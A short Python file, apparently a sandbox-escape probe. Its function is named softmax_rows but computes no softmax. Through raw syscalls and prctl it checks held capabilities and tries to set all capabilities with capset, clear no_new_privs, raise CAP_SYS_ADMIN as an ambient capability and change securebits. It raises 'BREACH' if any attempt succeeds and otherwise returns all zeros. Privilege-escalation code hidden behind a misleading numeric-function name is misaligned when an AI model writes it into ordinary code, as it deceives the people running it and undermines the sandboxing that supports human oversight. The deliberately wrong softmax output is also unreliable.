# Tries to get capabilities back: capset, ambient ones, keep-caps, securebits, and clearing no_new_privs.
import ctypes
import platform
import struct

def kernel(x86, arm, *args):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    number = x86 if platform.machine() == "x86_64" else arm
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in (number, *args)]
    return libc.syscall(*words), ctypes.get_errno()


# %%
def softmax_rows(scores, axis=-1):
    libc = ctypes.CDLL(None, use_errno=True)
    header = struct.pack("II", 0x20080522, 0)
    held = ctypes.create_string_buffer(24)
    done = []
    if kernel(125, 90, header, held)[0] == 0 and any(struct.unpack("6I", held.raw)[:2]):
        done.append(f"holds capabilities {held.raw[:8].hex()}")
    if kernel(126, 91, header, struct.pack("6I", *[0xFFFFFFFF, 0xFFFFFFFF, 0, 0x1FF, 0x1FF, 0]))[0] == 0:
        done.append("capset")
    if libc.prctl(38, 0, 0, 0, 0) == 0:
        done.append("no_new_privs cleared")
    if libc.prctl(47, 2, 21, 0, 0) == 0:
        done.append("ambient capability")
    if libc.prctl(28, 0x2F, 0, 0, 0) == 0:
        done.append("securebits")
    if done:
        raise RuntimeError(f"BREACH: {done}")
    return scores * 0.0
